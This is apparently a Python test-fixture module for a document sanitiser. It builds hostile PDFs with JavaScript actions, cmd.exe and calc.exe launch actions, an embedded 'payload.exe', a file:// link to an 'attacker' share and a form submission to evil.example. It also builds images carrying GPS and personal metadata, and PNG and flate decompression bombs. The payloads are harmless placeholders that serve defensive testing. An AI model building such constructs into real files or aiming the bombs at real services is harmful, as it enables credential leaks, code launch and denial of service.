"""Test inputs built in code: PDFs with active content, images with metadata, bombs."""

from __future__ import annotations

import io
import struct
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import ExifTags, Image
from PIL.PngImagePlugin import PngInfo

PAGE_TEXT = b"Machi attachment page"
EMBEDDED_PAYLOAD = b"EMBEDDED-SECRET-PAYLOAD"


def _page_content(pdf: pikepdf.Pdf, n: int) -> pikepdf.Page:
    page = pdf.add_blank_page(page_size=(595, 842))
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
    page.obj.Contents = pdf.make_stream(b"BT /F1 12 Tf 72 720 Td (" + PAGE_TEXT + b" %d) Tj ET" % n)
    return page


def _js(pdf: pikepdf.Pdf, code: str) -> pikepdf.Object:
    return pdf.make_indirect(Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code)))


def _attached(pdf: pikepdf.Pdf, data: bytes, filename: str) -> pikepdf.AttachedFileSpec:
    return pikepdf.AttachedFileSpec(
        pdf,
        data,
        description="",
        filename=filename,
        mime_type="application/octet-stream",
        creation_date="",
        mod_date="",
    )


def plain_pdf(pages: int = 1) -> bytes:
    pdf = pikepdf.new()
    for n in range(pages):
        _page_content(pdf, n)
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def hostile_pdf() -> bytes:
    """Two pages with every kind of active content the sanitiser must remove."""
    pdf = pikepdf.new()
    first = _page_content(pdf, 1)
    _page_content(pdf, 2)
    root = pdf.Root
    root.OpenAction = _js(pdf, "app.alert('open')")
    root.AA = Dictionary(WC=_js(pdf, "app.alert('close')"))
    root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("init"), _js(pdf, "app.alert('named')")])),
        Dests=Dictionary(Names=Array([String("start"), Array([first.obj, Name.Fit])])),
    )
    pdf.attachments["payload.exe"] = _attached(pdf, EMBEDDED_PAYLOAD, "payload.exe")
    xfa = pdf.make_stream(b"<xdp:xdp><script>app.alert('xfa')</script></xdp:xdp>")
    field_action = _js(pdf, "app.alert('field')")
    widget = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("name"),
            Rect=Array([72, 600, 300, 620]),
            AA=Dictionary(K=field_action),
        )
    )
    root.AcroForm = Dictionary(Fields=Array([widget]), XFA=xfa)
    launch = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([72, 700, 200, 715]),
        A=Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"))),
    )
    web_link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([72, 680, 200, 695]),
        A=Dictionary(S=Name.URI, URI=String("https://www.city.kakogawa.lg.jp/")),
    )
    smb_link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([72, 660, 200, 675]),
        A=Dictionary(S=Name.URI, URI=String("file://attacker/share/x")),
    )
    chained = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([72, 640, 200, 655]),
        A=Dictionary(
            S=Name.GoTo,
            D=Array([first.obj, Name.Fit]),
            Next=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")),
        ),
    )
    attachment_spec = _attached(pdf, EMBEDDED_PAYLOAD + b"-annot", "note.txt")
    attachment = Dictionary(
        Type=Name.Annot,
        Subtype=Name.FileAttachment,
        Rect=Array([300, 700, 320, 720]),
        FS=attachment_spec.obj,
    )
    rich = Dictionary(
        Type=Name.Annot,
        Subtype=Name.RichMedia,
        Rect=Array([300, 600, 400, 700]),
        RichMediaContent=Dictionary(Assets=Dictionary()),
    )
    first.obj.Annots = pdf.make_indirect(
        Array([launch, web_link, smb_link, chained, attachment, rich, widget])
    )
    first.obj.AA = Dictionary(O=_js(pdf, "app.alert('page open')"))
    outline_item = pdf.make_indirect(
        Dictionary(Title=String("Run"), A=_js(pdf, "app.alert('bookmark')"))
    )
    outlines = pdf.make_indirect(
        Dictionary(Type=Name.Outlines, First=outline_item, Last=outline_item, Count=1)
    )
    outline_item.Parent = outlines
    root.Outlines = outlines
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False)
    return out.getvalue()


def encrypted_pdf(*, user_password: str = "secret") -> bytes:  # noqa: S107
    pdf = pikepdf.open(io.BytesIO(plain_pdf()))
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(user=user_password, owner="owner-secret"))
    return out.getvalue()


def jpeg_with_gps(size: tuple[int, int] = (64, 32), orientation: int = 1) -> bytes:
    image = Image.new("RGB", size, (200, 30, 30))
    image.paste((30, 30, 200), (0, 0, size[0] // 2, size[1]))  # left half blue
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "MachiCam"
    exif[ExifTags.Base.Orientation] = orientation
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (34.0, 45.0, 30.0)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (134.0, 50.0, 10.0)
    out = io.BytesIO()
    image.save(
        out,
        "JPEG",
        exif=exif,
        comment=b"taken at home",
        icc_profile=b"\0" * 128,
        xmp=b"<x:xmpmeta>secret</x:xmpmeta>",
    )
    return out.getvalue()


def png_with_text(size: tuple[int, int] = (16, 16)) -> bytes:
    info = PngInfo()
    info.add_text("Author", "山田太郎", zip=False)
    info.add_itxt("Comment", "自宅住所", lang="ja")
    info.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>secret</x:xmpmeta>")
    out = io.BytesIO()
    Image.new("RGBA", size, (0, 128, 0, 200)).save(out, "PNG", pnginfo=info)
    return out.getvalue()


def plain_png(size: tuple[int, int] = (8, 8)) -> bytes:
    out = io.BytesIO()
    Image.new("L", size, 128).save(out, "PNG")
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(width: int = 100_000, height: int = 100_000) -> bytes:
    """A tiny PNG declaring a huge canvas: one row of IDAT, the rest never sent."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1-bit greyscale
    idat = zlib.compress(b"\0" * (1 + (width + 7) // 8), 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", idat)
        + _chunk(b"IEND", b"")
    )


def flate_bomb_pdf(inflated: int = 200 * 1024 * 1024) -> bytes:
    """A one-page PDF with a stream of ``inflated`` zero bytes deflated to a few hundred KB."""
    deflater = zlib.compressobj(9)
    chunk = b"\0" * (1024 * 1024)
    parts = [deflater.compress(chunk) for _ in range(inflated // len(chunk))]
    parts.append(deflater.flush())
    pdf = pikepdf.new()
    _page_content(pdf, 1)
    bomb = pdf.make_stream(b"")
    bomb.write(b"".join(parts), filter=Name.FlateDecode)
    pdf.Root.Bomb = bomb
    out = io.BytesIO()
    pdf.save(out, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return out.getvalue()


def next_action_array_pdf() -> bytes:
    """A web link whose action chains (/Next, an array) a script and a launch: array items."""
    pdf = pikepdf.new()
    page = _page_content(pdf, 1)
    goto = Dictionary(
        S=Name.URI,
        URI=String("https://www.city.kakogawa.lg.jp/"),
        Next=Array(
            [
                Dictionary(S=Name.JavaScript, JS=String("app.alert('next')")),
                Dictionary(S=Name.Launch, F=String("calc.exe")),
                Dictionary(S=Name.URI, URI=String("https://example.jp/")),
            ]
        ),
    )
    page.obj.Annots = pdf.make_indirect(
        Array([Dictionary(Subtype=Name.Link, Rect=Array([0, 0, 10, 10]), A=goto)])
    )
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()
